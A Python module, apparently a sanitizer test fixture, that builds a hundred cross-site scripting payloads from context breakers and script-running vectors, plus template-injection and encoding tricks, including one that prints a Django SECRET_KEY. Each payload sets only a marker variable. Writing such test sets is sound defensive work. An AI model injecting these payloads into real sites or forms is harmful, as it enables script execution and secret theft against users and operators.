"""A hundred texts that would run a script where one is put into a page as it is.

Ways out of where a text may stand (an element, an attribute, a comment, a script's
string) by ways to run something, and a score that fit no table.
"""

BREAKERS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>")
VECTORS = (
    "<script>__x=1</script>",
    "<img src=x onerror=__x=1>",
    "<svg onload=__x=1>",
    "<svg><animate onbegin=__x=1 attributeName=x dur=1s>",
    "<details open ontoggle=__x=1>",
    "<iframe srcdoc='<script>parent.__x=1</script>'>",
    "<body onpageshow=__x=1>",
    "<a href=javascript:__x=1 autofocus onfocus=__x=1>here</a>",
    "<input autofocus onfocus=__x=1>",
    "<style>@keyframes k{}*{animation:k}</style><b onanimationstart=__x=1>",
)
ODD = (
    '" autofocus onfocus=__x=1 x="',
    "' autofocus onfocus=__x=1 x='",
    '" onmouseover="__x=1" style="position:fixed;inset:0',
    "javascript:__x=1",
    "java\tscript:__x=1",
    "data:text/html,<script>parent.__x=1</script>",
    "';__x=1;'",
    '";__x=1;"',
    "\\';__x=1;//",
    "${window.__x=1}",
    "`;__x=1;`",
    "{{constructor.constructor('__x=1')()}}",
    "{% debug %}{{ settings.SECRET_KEY }}",
    "{% endblock %}<script>__x=1</script>",
    "\\u003cscript\\u003e__x=1\\u003c/script\\u003e",
    "&lt;script&gt;__x=1&lt;/script&gt;",
    "%3Cscript%3E__x=1%3C/script%3E",
    "＜script＞__x=1＜/script＞",
    "<b>bold</b><a href='javascript:__x=1'>x</a>\u202e",
    "<!--[if true]><script>__x=1</script><![endif]-->",
)
PAYLOADS = tuple(b + v for b in BREAKERS for v in VECTORS) + ODD
